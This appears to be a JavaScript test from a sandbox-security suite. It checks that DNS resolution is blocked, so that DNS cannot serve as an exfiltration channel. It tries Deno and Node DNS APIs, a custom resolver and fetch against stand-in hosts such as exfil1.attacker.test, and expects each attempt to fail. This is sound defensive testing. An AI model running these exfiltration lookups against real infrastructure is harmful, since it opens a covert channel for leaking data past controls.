// id: net-03-dns
// category: network
// goal: resolve names (DNS exfiltration channel)
// expect: NotCapable, no DNS packet
const go = (n, f) => t(n, () => to(new Promise((r, j) => f(r, j))));
const dns = await node('dns');
if (D) await t('Deno.resolveDns', () => to(D.resolveDns('exfil1.attacker.test', 'A')));
if (D) await t('Deno.resolveDns custom', () => to(D.resolveDns('exfil2.attacker.test', 'TXT', { nameServer: { ipAddr: '127.0.0.1', port: 53 } })));
await go('lookup', (r, j) => dns.lookup('exfil3.attacker.test', (e, a) => e ? j(e) : r(a)));
await go('resolve4', (r, j) => dns.resolve4('exfil4.attacker.test', (e, a) => e ? j(e) : r(a.join())));
await t('promises', () => to(dns.promises.resolveTxt('exfil5.attacker.test')));
await t('Resolver.setServers', () => { const x = new dns.promises.Resolver(); x.setServers(['127.0.0.1']); return to(x.resolve4('exfil6.attacker.test')); });
await t('fetch name', () => to(fetch('http://exfil7.attacker.test/')));
await t('reverse', () => to(dns.promises.reverse('127.0.0.1')));
await t('lookupService', () => to(dns.promises.lookupService('127.0.0.1', 80)));
return out;
